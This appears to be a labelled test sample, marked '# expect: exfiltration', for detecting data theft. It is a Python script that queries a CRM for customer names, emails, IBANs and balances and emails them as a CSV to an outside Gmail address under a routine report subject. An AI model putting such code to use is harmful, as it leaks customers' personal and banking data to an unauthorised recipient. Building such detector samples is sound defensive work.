import csv
import io
import os
import smtplib
from email.message import EmailMessage

import pymysql

RECIPIENT = "finance.contractor@gmail.com"


def extract() -> str:
    conn = pymysql.connect(host=os.environ["DB_HOST"], user="reporting",
                           password=os.environ["DB_PASSWORD"], database="crm")
    with conn.cursor() as cur:
        cur.execute("SELECT id, name, email, iban, balance FROM customers WHERE active = 1")
        rows = cur.fetchall()
    buf = io.StringIO()
    w = csv.writer(buf)
    w.writerow(["id", "name", "email", "iban", "balance"])
    w.writerows(rows)
    return buf.getvalue()


def send(body_csv: str) -> None:
    msg = EmailMessage()
    msg["Subject"] = "Weekly customer balances"
    msg["From"] = "reports@acme.example"
    msg["To"] = RECIPIENT
    msg.set_content("Attached.")
    msg.add_attachment(body_csv.encode(), maintype="text", subtype="csv", filename="balances.csv")
    with smtplib.SMTP_SSL("smtp.gmail.com", 465) as smtp:
        smtp.login(os.environ["SMTP_USER"], os.environ["SMTP_PASS"])
        # expect: exfiltration
        smtp.send_message(msg)


if __name__ == "__main__":
    send(extract())
